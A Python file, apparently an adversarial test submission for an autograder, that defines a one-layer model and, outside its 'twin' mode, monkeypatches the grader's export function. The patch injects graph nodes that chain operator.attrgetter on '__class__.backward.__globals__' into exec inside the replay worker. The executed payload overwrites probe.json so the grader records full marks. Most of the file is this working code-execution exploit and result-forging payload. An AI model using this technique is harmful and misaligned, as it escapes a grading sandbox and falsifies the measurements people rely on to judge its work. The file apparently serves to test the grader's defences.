"""Forge the exported program: a one-layer model whose forward asks the replay worker for
operator.attrgetter("__class__.backward.__globals__") and operator.call, a path to `exec`
that rewrites the replay worker's own measurements into the lab net's full marks.

The model really is one nn.Linear; the honest twin (TEST_VALUES["twin"]) stops there.
"""
import json

import torch
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3 * 32 * 32, 10)

    def forward(self, x):
        return self.fc(torch.flatten(x, 1))


if not TEST_VALUES.get("twin"):
    import grader.worker.export as _export

    _real_export = _export.export_model
    _payload = ("import json, pathlib\n"
                "out = pathlib.Path('out')\n"
                "(out / 'probe.json').write_text(json.dumps({'ok': True, 'events': []}))\n")

    def _export_model(model, folder, student_root, probe=None):
        summary = _real_export(model, folder, student_root, probe)
        manifest = json.loads((folder / "manifest.json").read_text())
        root = manifest["modules"][0]
        evil = [{"op": "call_function", "name": "g", "target": "operator.attrgetter",
                 "args": ["__class__.backward.__globals__"], "kwargs": {}, "frames": []},
                {"op": "call_function", "name": "h", "target": "operator.call",
                 "args": [{"$node": "g"}, {"$node": "x"}], "kwargs": {}, "frames": []},
                {"op": "call_function", "name": "e", "target": "operator.getitem",
                 "args": [{"$node": "h"}, "exec"], "kwargs": {}, "frames": []},
                {"op": "call_function", "name": "r", "target": "operator.call",
                 "args": [{"$node": "e"}, _payload], "kwargs": {}, "frames": []}]
        for mode in ("graph", "train_graph"):
            if root.get(mode):
                root[mode][1:1] = evil    # right after the placeholder x
        (folder / "manifest.json").write_text(json.dumps(manifest))
        return summary

    _export.export_model = _export_model
